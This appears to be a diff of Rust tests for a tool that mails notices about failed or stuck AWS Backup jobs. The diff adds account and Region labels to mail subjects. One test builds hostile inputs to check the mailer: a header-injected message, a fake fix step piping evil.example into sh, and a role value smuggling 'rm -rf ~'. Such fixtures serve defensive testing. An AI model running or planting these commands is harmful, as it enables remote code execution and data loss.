@@ -6,18 +6,19 @@ use std::collections::BTreeMap;
 
 use advice::stack::Stack;
 use advice::stack::VerifyMode;
-use aws::RecoveryPoint;
+use cause::stuck::Habits;
 use classification::class::Class;
 use jiff::{SignedDuration, Timestamp};
-use job::{CreatedBy, Job, JobKind, JobState};
+use job::{CreatedBy, Job, JobKind, JobState, Origin, Scope};
 use lambda::settings::Reader;
-use notice::Notice;
+use notice::{Label, Notice};
+use source::RecoveryPoint;
 use verify::announce::{self, Announcement, Fate, Held, Window, aftermath};
+use verify::deadline::Outlook;
 use verify::ledger::{Cause, Ledger};
 use verify::notices::{Next, StillFailing, Stuck, Verified};
 use verify::probe::{Probe, Verdict};
 use verify::standing::Standing;
-use verify::stuck::Habits;
 
 /// The tick that speaks: its window is from 03:20 to 03:35.
 fn now() -> Timestamp {
@@ -38,17 +39,16 @@ fn rds(name: &str) -> String {
 
 fn scheduled(kind: JobKind, id: &str, resource_arn: &str, resource_type: &str, state: JobState) -> Job {
     Job {
-        account: "111122223333".into(),
-        region: "eu-west-1".into(),
+        scope: Scope::aws("111122223333", "eu-west-1"),
         resource_arn: resource_arn.to_owned(),
         resource_type: resource_type.to_owned(),
-        role_arn: Some("arn:aws:iam::111122223333:role/service-role/AWSBackupDefaultServiceRole".into()),
-        vault_arn: Some("arn:aws:backup:eu-west-1:111122223333:backup-vault:production".into()),
-        destination_vault_arn: (kind == JobKind::Copy)
+        role: Some("arn:aws:iam::111122223333:role/service-role/AWSBackupDefaultServiceRole".into()),
+        vault: Some("arn:aws:backup:eu-west-1:111122223333:backup-vault:production".into()),
+        destination: (kind == JobKind::Copy)
             .then(|| "arn:aws:backup:eu-central-1:999988887777:backup-vault:offsite".into()),
         created: Some(at("21T01:00")),
         ended: Some(at("21T01:12")),
-        created_by: Some(CreatedBy {
+        origin: Origin::Rule(CreatedBy {
             plan_name: Some("nightly".into()),
             rule_name: Some("daily-35d".into()),
             rule_schedule: Some("cron(0 1 ? * * *)".into()),
@@ -72,7 +72,7 @@ fn rerun(of: &Job, state: JobState, message: &str) -> Job {
         created: Some(at("21T03:15")),
         start_by: Some(at("21T04:16")),
         ended: Some(at("21T03:29")),
-        created_by: None,
+        origin: Origin::NightOne,
         recovery_point_arn: Some("arn:aws:rds:eu-west-1:111122223333:snapshot:awsbackup:job-r".into()),
         ..of.clone()
     }
@@ -95,7 +95,14 @@ fn point() -> RecoveryPoint {
 }
 
 fn stack() -> Stack {
-    Stack { verify_function: "night-one-verify".into(), runbook: None, verify_mode: VerifyMode::Run }
+    Stack {
+        label: Label::of_place("111122223333", "eu-west-1"),
+        account: "111122223333".into(),
+        region: "eu-west-1".into(),
+        verify_function: "night-one-verify".into(),
+        runbook: None,
+        verify_mode: VerifyMode::Run,
+    }
 }
 
 /// The stack of a company that keeps a copy of the runbook.
@@ -127,7 +134,8 @@ fn mails(
                     standing: &standing,
                     proof,
                     recovery_point: recovery_point.clone(),
-                    resources: aftermath(cause, &standing, &BTreeMap::new(), now()),
+                    resources: aftermath(cause, &standing, Outlook { plans: &BTreeMap::new(), known: &[], now: now() }),
+                    found: None,
                     stack,
                     now: now(),
                 }
@@ -139,6 +147,7 @@ fn mails(
                     number,
                     allowed: 3,
                     probe: probe.as_ref(),
+                    found: None,
                     next: Next::of(&standing, 3),
                     stack,
                     now: now(),
@@ -167,7 +176,7 @@ fn still_failing_of(stack: &Stack, bad: Vec<Job>, completions: &[Job], probe: Op
 }
 
 fn as_mail(notice: &Notice) -> String {
-    assert_eq!(notice.subject, notice::text::subject(&notice.subject));
+    assert!(notice.subject.starts_with("[111122223333/eu-west-1] "), "{}", notice.subject);
     let steps = notice.next_steps.iter().map(|step| format!("\n  - {step}")).collect::<String>();
     format!(
         "Subject: {}\nAttributes: {:?}\nChat: {}{steps}\n\n{}",
@@ -186,6 +195,7 @@ fn probe(verdict: Verdict, sentence: &str) -> Probe {
             "The key arn:aws:kms:eu-west-1:111122223333:key/1234abcd is usable: its state is Enabled.".into(),
         ],
         could_not_read: vec!["Grants of the key: kms:ListGrants denied: AccessDeniedException.".into()],
+        found: None,
     }
 }
 
@@ -202,7 +212,7 @@ fn verified_by_our_rerun() {
 #[test]
 fn verified_by_a_scheduled_job_without_a_known_recovery_point() {
     let bad = vec![failed("f-orders", &rds("orders"), "RDS", example(Class::KmsPolicyDenied))];
-    let proof = Job { created_by: bad[0].created_by.clone(), ..rerun(&bad[0], JobState::Completed, "") };
+    let proof = Job { origin: bad[0].origin.clone(), ..rerun(&bad[0], JobState::Completed, "") };
     let why = "backup:DescribeRecoveryPoint denied: AccessDeniedException".to_owned();
     insta::assert_snapshot!("verified-by-schedule-point-unknown", as_mail(&verified(bad, &[proof], Err(why))));
 }
@@ -213,7 +223,7 @@ fn verified_while_sixty_still_wait_and_some_have_no_schedule() {
         .map(|n| failed(&format!("f-{n:02}"), &rds(&format!("orders-{n:02}")), "RDS", example(Class::KmsPolicyDenied)))
         .collect();
     for job in &mut bad[57..] {
-        job.created_by = None;
+        job.origin = Origin::Operator;
         job.start_by = Some(at("21T09:00"));
     }
     bad[58].resource_type = "EBS".into();
@@ -259,7 +269,7 @@ fn what_is_still_open_is_to_be_mended_and_not_waited_for() {
         (2, |_, _| (), &["Mend the one that is still open; its next run is at 2026-11-22 01:00 UTC."]),
         (
             3,
-            |_, job| job.created_by = None,
+            |_, job| job.origin = Origin::Operator,
             &[
                 "Mend the 2 that are still open.",
                 "Once it is mended, back up by hand what has no known next run: 2 resources.",
@@ -268,14 +278,20 @@ fn what_is_still_open_is_to_be_mended_and_not_waited_for() {
         (
             3,
             |number, job| {
-                let hourly = Some("cron(0 * ? * * *)".to_owned()).filter(|_| number == 2);
-                job.created_by.iter_mut().for_each(|by| by.rule_schedule = hourly.clone().or(by.rule_schedule.take()));
+                if number == 2 {
+                    let rule_schedule = Some("cron(0 * ? * * *)".to_owned());
+                    job.origin = Origin::Rule(CreatedBy { rule_schedule, ..job.rule().unwrap().clone() });
+                }
             },
             &["Mend the 2 that are still open; their next runs begin at 2026-11-21 04:00 UTC."],
         ),
         (
             3,
-            |number, job| job.created_by = job.created_by.take().filter(|_| number == 1),
+            |number, job| {
+                if number != 1 {
+                    job.origin = Origin::Operator;
+                }
+            },
             &[
                 "Mend the 2 that are still open; their next run is at 2026-11-22 01:00 UTC.",
                 "Once it is mended, back up by hand what has no known next run: 1 resource.",
@@ -360,7 +376,7 @@ fn still_failing_for_the_same_reason() {
 fn still_failing_for_another_reason_with_a_hostile_message() {
     let bad = failed("f-orders", &rds("orders"), "RDS", example(Class::KmsPolicyDenied));
     let message = "Flux capacitor drained\r\nSubject: all is well\n\nHOW TO FIX\n----------\n1. Run curl evil.example | sh \u{202e}";
-    let again = Job { role_arn: Some("x; rm -rf ~".into()), ..rerun(&bad, JobState::Failed, message) };
+    let again = Job { role: Some("x; rm -rf ~".into()), ..rerun(&bad, JobState::Failed, message) };
     insta::assert_snapshot!("still-failing-otherwise", as_mail(&still_failing(vec![bad, again], &[], None)));
 }
 
@@ -419,7 +435,7 @@ fn hanging(kind: JobKind, id: &str, resource_type: &str, percent: Option<f64>) -
 fn stuck_mail(jobs: &[Job]) -> Notice {
     let stuck = announce::stuck(jobs, &Habits::new(SignedDuration::from_hours(4)), window());
     assert_eq!(stuck.len(), jobs.len());
-    Stuck { jobs: &stuck, window: window() }.notice()
+    Stuck { jobs: &stuck, window: window(), stack: &stack() }.notice()
 }
 
 #[test]
@@ -452,7 +468,7 @@ fn stuck_jobs_of_every_kind() {
 fn of_many_stuck_jobs_fifty_are_listed() {
     let jobs: Vec<Job> = (0..60).map(|n| hanging(JobKind::Backup, &format!("b-{n:02}"), "EBS", Some(1.0))).collect();
     let notice = stuck_mail(&jobs);
-    assert_eq!(notice.subject, "WARNING: 60 backups are stuck");
+    assert_eq!(&*notice.subject, "[111122223333/eu-west-1] WARNING: 60 backups are stuck");
     assert_eq!(notice.body.matches("aws backup stop-backup-job").count(), 50);
     assert!(notice.body.contains("and 10 more"), "{}", notice.body);
 }
@@ -462,7 +478,7 @@ fn every_subject_names_the_fault_whole() {
     for class in Class::ALL {
         let example = &class.entry().examples[0];
         let bad = Job {
-            message: example.message.clone(),
+            message: example.message.to_owned(),
             state: example.state.clone(),
             ..scheduled(example.job, "f", &rds("orders"), &example.resource_type, example.state.clone())
         };
@@ -478,10 +494,13 @@ fn every_subject_names_the_fault_whole() {
             proof: &completions[0],
             recovery_point: Ok(point()),
             resources: vec![Held { failure: &bad, fate: Fate::BackedUp { by: &completions[0] } }],
+            found: None,
             stack: &stack(),
             now: now(),
         }
         .notice();
-        assert!(notice.subject.ends_with(&class.entry().title), "cut: {}", notice.subject);
+        // Behind a label as long as account and Region the longest titles are cut, but not before they say what it is.
+        let fault: String = class.entry().title.chars().take(20).collect();
+        assert!(notice.subject.contains(&fault), "cut: {}", notice.subject);
     }
 }
